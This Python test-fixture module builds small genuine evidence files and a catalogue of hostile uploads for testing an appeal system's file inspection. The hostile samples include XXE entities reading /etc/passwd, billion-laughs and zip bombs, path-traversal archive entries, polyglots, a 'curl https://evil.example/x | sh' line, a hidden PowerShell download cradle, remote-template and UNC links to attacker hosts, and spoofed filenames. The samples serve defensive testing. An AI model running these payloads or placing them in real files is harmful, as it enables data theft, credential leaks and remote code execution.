"""Real, small evidence files for every A8 extension, and hostile ones, built in memory.

Used by the upload-inspection tests and by API / browser tests that need something to upload. Images are
encoded by Pillow (installed as a dependency of WeasyPrint), PDFs, Word and OpenDocument files are built by
hand to their specifications, so each sample opens in the program its extension names.
"""

from __future__ import annotations

import functools
import io
import random
import struct
import zipfile
import zlib
from collections.abc import Callable
from typing import NoReturn

from PIL import Image

# A fixed timestamp keeps ZIP-based samples byte-for-byte reproducible.
_ZIP_DATE = (2024, 1, 2, 3, 4, 6)

TEXT = "Evidence for appeal A-1042: the brand’s registration certificate, issued 2024-01-15 — ünïcode ok.\n"


# --- images --------------------------------------------------------------------------------------------------


def _image(fmt: str, **options) -> bytes:
    """An 8×8 gradient, so the encoder has real pixels to work on."""
    image = Image.new("RGB", (8, 8))
    image.putdata([(x * 32, y * 32, 128) for y in range(8) for x in range(8)])
    out = io.BytesIO()
    image.save(out, fmt, **options)
    return out.getvalue()


def _png_chunk(kind: bytes, data: bytes) -> bytes:
    return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))


def tiff_big_endian() -> bytes:
    """A 1×1 uncompressed bilevel TIFF in Motorola byte order (``MM\\0*``), written field by field.

    Pillow only writes Intel order (``II*\\0``); both are TIFF and both must be accepted.
    """
    entries = [
        (256, 3, 1, 1 << 16),  # ImageWidth = 1 (a SHORT sits in the high half of the 4-byte value field)
        (257, 3, 1, 1 << 16),  # ImageLength = 1
        (259, 3, 1, 1 << 16),  # Compression = none
        (262, 3, 1, 0),  # PhotometricInterpretation = WhiteIsZero
        (273, 4, 1, 8 + 2 + 12 * 6 + 4),  # StripOffsets: the pixel byte right after the IFD
        (279, 4, 1, 1),  # StripByteCounts
    ]
    ifd = struct.pack(">H", len(entries)) + b"".join(struct.pack(">HHII", *e) for e in entries) + bytes(4)
    return b"MM\x00*" + struct.pack(">I", 8) + ifd + b"\x00"


def _raw(size: int = 2048) -> bytes:
    """A bare 12-bit RGGB Bayer sensor dump, little-endian 16-bit words: what a .raw from a camera module is.

    One 32×32 tile of noisy levels, repeated to ``size`` bytes.
    """
    rng = random.Random(1042)
    words = []
    for i in range(32 * 32):
        x, y = i % 32, i // 32
        base = (400, 900, 900, 300)[(y % 2) * 2 + (x % 2)]  # R, G, G, B levels
        words.append(min(4095, base + 20 * x + rng.randrange(64)))
    tile = struct.pack(f"<{len(words)}H", *words)
    return (tile * (size // len(tile) + 1))[:size]


# --- documents -----------------------------------------------------------------------------------------------


def _pdf(pad: int = 0) -> bytes:
    """A one-page PDF 1.4 with a line of Helvetica text and a correct cross-reference table.

    ``pad`` bytes of comment go right after the header, so a padded PDF is still valid from end to end.
    """
    text = b"BT /F1 18 Tf 72 720 Td (Evidence for appeal A-1042) Tj ET"
    objects = [
        b"<< /Type /Catalog /Pages 2 0 R >>",
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents 4 0 R "
        b"/Resources << /Font << /F1 5 0 R >> >> >>",
        b"<< /Length %d >>\nstream\n%s\nendstream" % (len(text), text),
        b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>",
    ]
    out = bytearray(b"%PDF-1.4\n%\xe2\xe3\xcf\xd3\n")
    if pad:
        if pad < 2:
            raise ValueError("a PDF comment needs at least 2 bytes")
        out += b"%" + b" " * (pad - 2) + b"\n"
    offsets = []
    for number, body in enumerate(objects, start=1):
        offsets.append(len(out))
        out += b"%d 0 obj\n%s\nendobj\n" % (number, body)
    xref = len(out)
    out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1)
    out += b"".join(b"%010d 00000 n \n" % offset for offset in offsets)
    out += b"trailer\n<< /Size %d /Root 1 0 R >>\nstartxref\n%d\n%%%%EOF\n" % (len(objects) + 1, xref)
    return bytes(out)


def _zip(members: list[tuple[str, bytes]], *, stored: frozenset[str] = frozenset()) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        for name, data in members:
            info = zipfile.ZipInfo(name, date_time=_ZIP_DATE)
            info.compress_type = zipfile.ZIP_STORED if name in stored else zipfile.ZIP_DEFLATED
            archive.writestr(info, data)
    return out.getvalue()


DOCX_CONTENT_TYPES = (
    b'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
    b'<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
    b'<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
    b'<Default Extension="xml" ContentType="application/xml"/>'
    b'<Override PartName="/word/document.xml" '
    b'ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"/>'
    b"</Types>"
)
DOCX_RELS = (
    b'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
    b'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
    b'<Relationship Id="rId1" '
    b'Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument" '
    b'Target="word/document.xml"/></Relationships>'
)
DOCX_DOCUMENT = (
    b'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
    b'<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main">'
    b"<w:body><w:p><w:r><w:t>Evidence for appeal A-1042</w:t></w:r></w:p></w:body></w:document>"
)


def docx_bytes(
    document_xml: bytes = DOCX_DOCUMENT,
    *,
    content_types: bytes = DOCX_CONTENT_TYPES,
    extra: list[tuple[str, bytes]] | None = None,
    leave_out: tuple[str, ...] = (),
) -> bytes:
    """A minimal Word document (the three parts Word needs), with hooks for hostile variants."""
    members = [
        ("[Content_Types].xml", content_types),
        ("_rels/.rels", DOCX_RELS),
        ("word/document.xml", document_xml),
        *(extra or []),
    ]
    return _zip([(name, data) for name, data in members if name not in leave_out])


ODT_MANIFEST = (
    b'<?xml version="1.0" encoding="UTF-8"?>\n'
    b'<manifest:manifest xmlns:manifest="urn:oasis:names:tc:opendocument:xmlns:manifest:1.0" '
    b'manifest:version="1.2">'
    b'<manifest:file-entry manifest:full-path="/" manifest:version="1.2" '
    b'manifest:media-type="application/vnd.oasis.opendocument.text"/>'
    b'<manifest:file-entry manifest:full-path="content.xml" manifest:media-type="text/xml"/>'
    b"</manifest:manifest>"
)
ODT_CONTENT = (
    b'<?xml version="1.0" encoding="UTF-8"?>\n'
    b'<office:document-content xmlns:office="urn:oasis:names:tc:opendocument:xmlns:office:1.0" '
    b'xmlns:text="urn:oasis:names:tc:opendocument:xmlns:text:1.0" office:version="1.2">'
    b"<office:body><office:text><text:p>Evidence for appeal A-1042</text:p></office:text></office:body>"
    b"</office:document-content>"
)


def odt_bytes(
    content_xml: bytes = ODT_CONTENT,
    *,
    mimetype: bytes = b"application/vnd.oasis.opendocument.text",
    manifest: bytes = ODT_MANIFEST,
) -> bytes:
    """A minimal OpenDocument text: ``mimetype`` first and stored, as the ODF specification requires."""
    return _zip(
        [("mimetype", mimetype), ("META-INF/manifest.xml", manifest), ("content.xml", content_xml)],
        stored=frozenset({"mimetype"}),
    )


_HTML = (
    '<!DOCTYPE html>\n<html lang="en"><head><meta charset="utf-8"><title>Evidence</title></head>\n'
    f"<body><p>{TEXT.strip()}</p></body></html>\n"
).encode()
_XML = (
    '<?xml version="1.0" encoding="UTF-8"?>\n'
    f'<evidence appeal="A-1042"><item kind="certificate">{TEXT.strip()}</item></evidence>\n'
).encode()
_RTF = rb"{\rtf1\ansi\deff0{\fonttbl{\f0 Times New Roman;}}\f0\fs24 Evidence for appeal A-1042.\par}"


def sample_bytes(ext: str) -> bytes:
    """A small, real file for ``ext`` (any A8 extension, with or without the dot, any case)."""
    ext = "." + ext.lower().lstrip(".")
    builders = {
        ".jpg": lambda: _image("JPEG", quality=90),
        ".jpeg": lambda: _image("JPEG", quality=90),
        ".png": lambda: _image("PNG"),
        ".bmp": lambda: _image("BMP"),
        ".tiff": lambda: _image("TIFF"),
        ".raw": _raw,
        ".pdf": _pdf,
        ".docx": docx_bytes,
        ".odt": odt_bytes,
        ".htm": lambda: _HTML,
        ".rtf": lambda: _RTF,
        ".txt": lambda: TEXT.encode(),
        ".xml": lambda: _XML,
    }
    if ext not in builders:
        raise ValueError(f"no sample for {ext}")
    return builders[ext]()


def padded(ext: str, size: int) -> bytes:
    """A valid ``ext`` file of exactly ``size`` bytes, for the formats that tolerate filler.

    txt: ASCII lines after the sample text; htm / xml: a trailing comment; pdf: a comment after the header (the
    cross-reference offsets are recomputed); png: a private ancillary chunk before IEND; raw: more sensor data.
    """
    ext = "." + ext.lower().lstrip(".")
    if ext == ".raw":
        return _raw(size)
    if ext == ".txt":
        base = TEXT.encode()
        need = size - len(base)
        if need < 0:
            return _short(ext, size)
        filler = b"Further detail about the evidence, line after line.\n"
        return base + (filler * (need // len(filler) + 1))[:need]
    if ext in {".htm", ".xml"}:
        # Many short comments after the document, then spaces: both allowed after the root element.
        base = sample_bytes(ext)
        need = size - len(base)
        if need < 0:
            return _short(ext, size)
        comment = b"<!-- further detail about the evidence -->\n"
        return base + comment * (need // len(comment)) + b" " * (need % len(comment))
    if ext == ".png":
        base = sample_bytes(ext)
        need = size - len(base) - 12
        if need < 0:
            return _short(ext, size)
        return base[:-12] + _png_chunk(b"prVt", b"\0" * need) + base[-12:]
    if ext == ".pdf":
        pad = max(2, size - len(_pdf()))
        for _ in range(4):  # the startxref number may gain a digit; settle in a round or two
            data = _pdf(pad)
            if len(data) == size:
                return data
            pad += size - len(data)
            if pad < 2:
                return _short(ext, size)
        raise ValueError(f"cannot pad a PDF to exactly {size} bytes")
    raise ValueError(f"{ext} cannot be padded to an exact size")


def _short(ext: str, size: int) -> NoReturn:
    raise ValueError(f"a {ext} sample cannot be as small as {size} bytes")


# --- hostile files -------------------------------------------------------------------------------------------


@functools.cache
def zip_bomb_docx() -> bytes:
    """A valid-looking .docx with a 120 MB media entry of zeros that compresses about 230:1 (≈ 0.5 MB)."""
    out = io.BytesIO(docx_bytes())
    # By name, not ZipInfo, so that the archive's compresslevel applies (level 1: four times faster on zeros).
    with (
        zipfile.ZipFile(out, "a", compression=zipfile.ZIP_DEFLATED, compresslevel=1) as archive,
        archive.open("word/media/image1.bmp", "w", force_zip64=True) as entry,
    ):
        block = bytes(1 << 20)
        for _ in range(120):
            entry.write(block)
    return out.getvalue()


def traversal_docx() -> bytes:
    """A .docx with an entry that would be written two folders up when unpacked."""
    return docx_bytes(extra=[("../../evil.txt", b"owned\n")])


def encrypted_docx() -> bytes:
    """A .docx whose document part carries the ZIP "encrypted" flag (zipfile cannot write real encryption)."""
    data = bytearray(docx_bytes())
    name = b"word/document.xml"
    # Set bit 0 of the general-purpose flags in the local header (offset 6) and the central directory (offset 8).
    for signature, flag_at, name_at in ((b"PK\x03\x04", 6, 30), (b"PK\x01\x02", 8, 46)):
        start = 0
        while (start := data.find(signature, start)) >= 0:
            if data[start + name_at : start + name_at + len(name)] == name:
                data[start + flag_at] |= 0x01
            start += 4
    return bytes(data)


def macro_docx() -> bytes:
    """A macro-enabled document (.docm) saved under a .docx name."""
    content_types = DOCX_CONTENT_TYPES.replace(
        b"application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml",
        b"application/vnd.ms-word.document.macroEnabled.main+xml",
    )
    return docx_bytes(content_types=content_types, extra=[("word/vbaProject.bin", b"\xd0\xcf\x11\xe0" + bytes(60))])


XXE = (
    '<?xml version="1.0" encoding="UTF-8"?>\n'
    '<!DOCTYPE evidence [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>\n'
    "<evidence>&xxe;</evidence>\n"
)

BILLION_LAUGHS = (
    '<?xml version="1.0"?>\n<!DOCTYPE lolz [\n<!ENTITY lol "lol">\n'
    + "".join(f'<!ENTITY lol{i} "{("&lol%s;" % ("" if i == 1 else i - 1)) * 10}">\n' for i in range(1, 10))
    + "]>\n<lolz>&lol9;</lolz>\n"
)


def xxe_xml() -> bytes:
    """XML that reads /etc/passwd through an external entity."""
    return XXE.encode()


def billion_laughs_xml() -> bytes:
    """The classic entity bomb: nine levels of ten, 10⁹ "lol"s from under 1 KB."""
    return BILLION_LAUGHS.encode()


def xxe_docx() -> bytes:
    return docx_bytes(XXE.encode().replace(b"evidence", b"w:document"))


def billion_laughs_docx() -> bytes:
    return docx_bytes(billion_laughs_xml())


def exe_bytes() -> bytes:
    """The head of a Windows PE executable: DOS header ("MZ"), DOS stub, "PE\\0\\0" and a COFF header."""
    stub = b"\x0e\x1f\xba\x0e\x00\xb4\x09\xcd\x21\xb8\x01\x4c\xcd\x21This program cannot be run in DOS mode.\r\r\n$"
    e_lfanew = 0x80
    dos = bytearray(64)
    struct.pack_into("<2sHHHHHHHHHHHHH", dos, 0, b"MZ", 0x90, 3, 0, 4, 0, 0xFFFF, 0, 0xB8, 0, 0, 0, 0x40, 0)
    struct.pack_into("<I", dos, 0x3C, e_lfanew)
    head = bytes(dos) + stub
    head += bytes(e_lfanew - len(head))
    # i386, no sections, no optional header, flags: executable image, 32-bit.
    coff = struct.pack("<4sHHIIIHH", b"PE\x00\x00", 0x14C, 0, 0x65A0B000, 0, 0, 0, 0x0102)
    return head + coff + bytes(512 - len(head) - len(coff))


def elf_bytes() -> bytes:
    """A complete x86-64 Linux ELF executable that exits with status 0 (120 bytes + code)."""
    code = b"\xb8\x3c\x00\x00\x00\x31\xff\x0f\x05"  # mov eax, 60 (exit); xor edi, edi; syscall
    base, header_size = 0x400000, 64 + 56
    ident = b"\x7fELF" + bytes([2, 1, 1, 0]) + bytes(8)
    header = ident + struct.pack("<HHIQQQIHHHHHH", 2, 0x3E, 1, base + header_size, 64, 0, 0, 64, 56, 1, 64, 0, 0)
    program = struct.pack("<IIQQQQQQ", 1, 5, 0, base, base, header_size + len(code), header_size + len(code), 0x1000)
    return header + program + code


# --- the hostile corpus (A8, issue 12 item 7) ------------------------------------------------------------------
#
# Files that start like what their extension says, so a signature check alone lets them through: each must be
# refused by a deeper check (the format must parse, no second format inside, no active or external content).


def _png_with_chunk(kind: bytes, data: bytes) -> bytes:
    base = sample_bytes(".png")
    return base[:-12] + _png_chunk(kind, data) + base[-12:]


def _noisy_image(fmt: str, size: int = 64) -> bytes:
    """A noisy image (compresses badly), so truncating it cuts into the pixel data."""
    rng = random.Random(7)
    image = Image.new("RGB", (size, size))
    image.putdata([(rng.randrange(256), rng.randrange(256), rng.randrange(256)) for _ in range(size * size)])
    out = io.BytesIO()
    image.save(out, fmt)
    return out.getvalue()


def jpeg_zip_polyglot() -> bytes:
    """A JPEG with a ZIP archive appended: an image to a viewer, a .jar / archive to anything that reads the end."""
    return sample_bytes(".jpg") + _zip([("Payload.class", b"\xca\xfe\xba\xbe" + bytes(40))])


def png_html_polyglot() -> bytes:
    """A valid PNG whose text chunk is a web page with script (served as HTML by a sniffing browser)."""
    return _png_with_chunk(b"tEXt", b"Comment\x00<html><script>alert(document.cookie)</script></html>")


def pdf_zip_polyglot() -> bytes:
    return _pdf() + _zip([("evil.exe", exe_bytes())])


def truncated_jpeg() -> bytes:
    data = _noisy_image("JPEG")
    return data[: len(data) // 2]


def truncated_png() -> bytes:
    data = _noisy_image("PNG")
    return data[: len(data) // 2]


def corrupt_png() -> bytes:
    """Pixel data altered after the checksum was written (what a damaged download looks like)."""
    data = bytearray(_noisy_image("PNG"))
    idat = data.find(b"IDAT")
    for i in range(idat + 40, idat + 80):
        data[i] ^= 0x5A
    return bytes(data)


def broken_bmp() -> bytes:
    """The 'BM' signature and a file header, then noise where the bitmap header should be."""
    return b"BM" + struct.pack("<IHHI", 4000, 0, 0, 54) + random.Random(5).randbytes(3986)


def truncated_bmp() -> bytes:
    data = _noisy_image("BMP")
    return data[: len(data) // 2]


def bmp_bomb() -> bytes:
    """A 58-byte BMP header declaring 30,000 × 30,000 pixels (900 million): a decompression bomb."""
    header = struct.pack("<IiiHHIIiiII", 40, 30_000, 30_000, 1, 24, 0, 0, 2835, 2835, 0, 0)
    return b"BM" + struct.pack("<IHHI", 14 + len(header) + 4, 0, 0, 14 + len(header)) + header + bytes(4)


def broken_tiff() -> bytes:
    """The TIFF signature with an image directory offset that points past the end of the file."""
    return b"II*\x00" + struct.pack("<I", 1_000_000) + random.Random(6).randbytes(500)


def truncated_tiff() -> bytes:
    data = _noisy_image("TIFF")
    return data[: len(data) // 2]


def pdf_garbage() -> bytes:
    """A PDF header followed by noise: no objects, no cross-reference table, no trailer."""
    return b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n" + random.Random(4).randbytes(4000)


def truncated_pdf() -> bytes:
    data = _pdf()
    return data[: len(data) // 2]


def macho_bytes() -> bytes:
    """The header of a 64-bit macOS (Mach-O) executable."""
    return b"\xcf\xfa\xed\xfe" + struct.pack("<iiIIII", 0x01000007, 3, 2, 0, 0, 0) + bytes(400)


def jar_bytes() -> bytes:
    """A Java archive: a ZIP with a manifest naming a main class."""
    return _zip([("META-INF/MANIFEST.MF", b"Manifest-Version: 1.0\nMain-Class: Payload\n"), ("Payload.class", b"x")])


def shebang_bytes() -> bytes:
    return b"#!/usr/bin/env python3\nimport os\nos.system('curl https://evil.example/x | sh')\n"


def batch_script_bytes() -> bytes:
    """A Windows batch script: no '#!', no signature, just commands."""
    return (
        b"@echo off\r\n"
        + b"powershell -nop -w hidden -c \"IEX (New-Object Net.WebClient).DownloadString('x')\"\r\n" * 20
    )


_DTD = b'<?xml version="1.0" encoding="UTF-8"?>\n<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>\n'
DOCX_STYLES = (
    b'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
    b'<w:styles xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main">'
    b'<w:style w:type="paragraph" w:styleId="Normal"><w:name w:val="Normal"/></w:style></w:styles>'
)
DOCX_DOCUMENT_RELS_NS = b'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
_REL = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/"


def _rels(*relationships: str) -> bytes:
    return (
        b'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
        + DOCX_DOCUMENT_RELS_NS
        + "".join(relationships).encode()
        + b"</Relationships>"
    )


def docx_dtd_in_styles() -> bytes:
    """The entity attack moved out of document.xml, into a part a check of document.xml alone never reads."""
    styles = _DTD + b'<w:styles xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main">&e;</w:styles>'
    return docx_bytes(extra=[("word/styles.xml", styles)])


def docx_xxe_in_core_properties() -> bytes:
    core = _DTD + (
        b'<cp:coreProperties xmlns:cp="http://schemas.openxmlformats.org/package/2006/metadata/core-properties" '
        b'xmlns:dc="http://purl.org/dc/elements/1.1/"><dc:title>&e;</dc:title></cp:coreProperties>'
    )
    return docx_bytes(extra=[("docProps/core.xml", core)])


def docx_dtd_in_rels() -> bytes:
    rels = _DTD + DOCX_DOCUMENT_RELS_NS + b"</Relationships>"
    return docx_bytes(extra=[("word/_rels/document.xml.rels", rels)])


def docx_external_relationship() -> bytes:
    """A picture linked, not embedded: Word fetches it from the attacker's server when the document opens."""
    rels = _rels(
        f'<Relationship Id="rId9" Type="{_REL}image" Target="http://tracker.example/p.png" TargetMode="External"/>'
    )
    return docx_bytes(extra=[("word/_rels/document.xml.rels", rels), ("word/styles.xml", DOCX_STYLES)])


def docx_unc_relationship() -> bytes:
    """A frame whose target is a Windows share: opening it sends the reader's NTLM hash to that host."""
    rels = _rels(f'<Relationship Id="rId7" Type="{_REL}frame" Target="\\\\attacker.example\\share\\x.docx"/>')
    return docx_bytes(extra=[("word/_rels/document.xml.rels", rels)])


def docx_remote_template() -> bytes:
    """The template injection technique: settings.xml names a template the document downloads when opened."""
    settings = (
        b'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
        b'<w:settings xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main" '
        b'xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships">'
        b'<w:attachedTemplate r:id="rId1"/></w:settings>'
    )
    rels = _rels(
        f'<Relationship Id="rId1" Type="{_REL}attachedTemplate" Target="https://evil.example/t.dotm" '
        'TargetMode="External"/>'
    )
    return docx_bytes(extra=[("word/settings.xml", settings), ("word/_rels/settings.xml.rels", rels)])


def docx_embedded_ole() -> bytes:
    """An OLE object (an 'Equation' or a packaged executable) embedded in the document."""
    rels = _rels(f'<Relationship Id="rId5" Type="{_REL}oleObject" Target="embeddings/oleObject1.bin"/>')
    return docx_bytes(
        extra=[
            ("word/_rels/document.xml.rels", rels),
            ("word/embeddings/oleObject1.bin", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(500)),
        ]
    )


def docx_hyperlink() -> bytes:
    """A legitimate document with a web link: hyperlinks are followed only on a click, so they are accepted."""
    rels = _rels(
        f'<Relationship Id="rId3" Type="{_REL}hyperlink" Target="https://www.irs.gov/" TargetMode="External"/>'
        f'<Relationship Id="rId4" Type="{_REL}styles" Target="styles.xml"/>'
    )
    return docx_bytes(extra=[("word/_rels/document.xml.rels", rels), ("word/styles.xml", DOCX_STYLES)])


ODT_STYLES = (
    b'<?xml version="1.0" encoding="UTF-8"?>\n'
    b'<office:document-styles xmlns:office="urn:oasis:names:tc:opendocument:xmlns:office:1.0" '
    b'office:version="1.2"><office:styles/></office:document-styles>'
)


def _odt(
    content_xml: bytes = ODT_CONTENT, extra: list[tuple[str, bytes]] | None = None, manifest: bytes = ODT_MANIFEST
):
    return _zip(
        [
            ("mimetype", b"application/vnd.oasis.opendocument.text"),
            ("META-INF/manifest.xml", manifest),
            ("content.xml", content_xml),
            *(extra or []),
        ],
        stored=frozenset({"mimetype"}),
    )


def odt_with_styles() -> bytes:
    """A legitimate .odt with a styles part (every part is parsed, so this must still pass)."""
    return _odt(extra=[("styles.xml", ODT_STYLES)])


def odt_dtd_in_styles() -> bytes:
    styles = _DTD + b'<office:document-styles xmlns:office="urn:oasis:names:tc:opendocument:xmlns:office:1.0">&e;'
    return _odt(extra=[("styles.xml", styles + b"</office:document-styles>")])


def odt_embedded_object() -> bytes:
    """An embedded sub-document ("Object 1/", a chart or OLE object run by its own engine), as LibreOffice writes."""
    manifest = ODT_MANIFEST.replace(
        b"</manifest:manifest>",
        b'<manifest:file-entry manifest:full-path="Object 1/" '
        b'manifest:media-type="application/vnd.oasis.opendocument.chart"/></manifest:manifest>',
    )
    return _odt(extra=[("Object 1/content.xml", ODT_CONTENT)], manifest=manifest)


def odt_ole_element() -> bytes:
    content = ODT_CONTENT.replace(
        b'xmlns:text="urn:oasis:names:tc:opendocument:xmlns:text:1.0"',
        b'xmlns:text="urn:oasis:names:tc:opendocument:xmlns:text:1.0" '
        b'xmlns:draw="urn:oasis:names:tc:opendocument:xmlns:drawing:1.0" '
        b'xmlns:xlink="http://www.w3.org/1999/xlink"',
    ).replace(b"</text:p>", b'<draw:frame><draw:object-ole xlink:href="./Obj1"/></draw:frame></text:p>')
    return _odt(content)


def odt_remote_image() -> bytes:
    content = ODT_CONTENT.replace(
        b'xmlns:text="urn:oasis:names:tc:opendocument:xmlns:text:1.0"',
        b'xmlns:text="urn:oasis:names:tc:opendocument:xmlns:text:1.0" '
        b'xmlns:draw="urn:oasis:names:tc:opendocument:xmlns:drawing:1.0" '
        b'xmlns:xlink="http://www.w3.org/1999/xlink"',
    ).replace(
        b"</text:p>", b'<draw:frame><draw:image xlink:href="http://tracker.example/p.png"/></draw:frame></text:p>'
    )
    return _odt(content)


def odt_macro() -> bytes:
    return _odt(extra=[("Basic/Standard/Module1.xml", b'<?xml version="1.0"?><module name="Module1"/>')])


def rtf_with_object() -> bytes:
    """An RTF embedding an OLE object (how the Equation Editor exploits were delivered)."""
    return rb"{\rtf1\ansi{\object\objemb{\*\objclass Equation.3}{\*\objdata 0105000002000000}}}"


# id → (file name, builder). Each is refused by a check deeper than the signature; test_uploads names why.
HOSTILE_FILES: dict[str, tuple[str, Callable[[], bytes]]] = {
    "jpeg+zip polyglot": ("photo.jpg", jpeg_zip_polyglot),
    "png+html polyglot": ("photo.png", png_html_polyglot),
    "pdf+zip polyglot": ("letter.pdf", pdf_zip_polyglot),
    "truncated jpeg": ("photo.jpg", truncated_jpeg),
    "truncated png": ("photo.png", truncated_png),
    "corrupt png": ("photo.png", corrupt_png),
    "bmp that does not parse": ("scan.bmp", broken_bmp),
    "truncated bmp": ("scan.bmp", truncated_bmp),
    "bmp decompression bomb": ("scan.bmp", bmp_bomb),
    "tiff that does not parse": ("scan.tiff", broken_tiff),
    "truncated tiff": ("scan.tiff", truncated_tiff),
    "pdf header + garbage": ("letter.pdf", pdf_garbage),
    "truncated pdf": ("letter.pdf", truncated_pdf),
    "pe as raw": ("IMG_0001.raw", exe_bytes),
    "elf as raw": ("IMG_0001.raw", elf_bytes),
    "mach-o as raw": ("IMG_0001.raw", macho_bytes),
    "shebang as raw": ("IMG_0001.raw", shebang_bytes),
    "batch script as raw": ("IMG_0001.raw", batch_script_bytes),
    "jar as raw": ("IMG_0001.raw", jar_bytes),
    "docx dtd in styles.xml": ("letter.docx", docx_dtd_in_styles),
    "docx xxe in core.xml": ("letter.docx", docx_xxe_in_core_properties),
    "docx dtd in rels": ("letter.docx", docx_dtd_in_rels),
    "docx external relationship": ("letter.docx", docx_external_relationship),
    "docx unc relationship": ("letter.docx", docx_unc_relationship),
    "docx remote attachedTemplate": ("letter.docx", docx_remote_template),
    "docx embedded ole": ("letter.docx", docx_embedded_ole),
    "odt dtd in styles.xml": ("letter.odt", odt_dtd_in_styles),
    "odt embedded object": ("letter.odt", odt_embedded_object),
    "odt draw:object-ole": ("letter.odt", odt_ole_element),
    "odt remote image": ("letter.odt", odt_remote_image),
    "odt macro": ("letter.odt", odt_macro),
    "rtf embedded object": ("letter.rtf", rtf_with_object),
}

# Names as a client may send them, each of which Django's multipart parser would rewrite (or, for U+2215 and
# U+FF0F, a look-alike slash it leaves alone); every one must be refused, never stored under a repaired name.
HOSTILE_NAMES: dict[str, str] = {
    "parent path": "../../etc/passwd.txt",
    "nul": "invoice.php\x00.pdf",
    "bidi override": "invoice\u202efdp.pdf",
    "tab": "scan\t1.pdf",
    "windows path": "C:\\Users\\me\\scan.pdf",
    "division slash": "..\u2215..\u2215scan.pdf",
    "fullwidth slash": "a\uff0fb.pdf",
    "html reference": "x&#47;..&#47;y.pdf",
    "zero width space": "in\u200bvoice.pdf",
    "dot dot": "..",
}
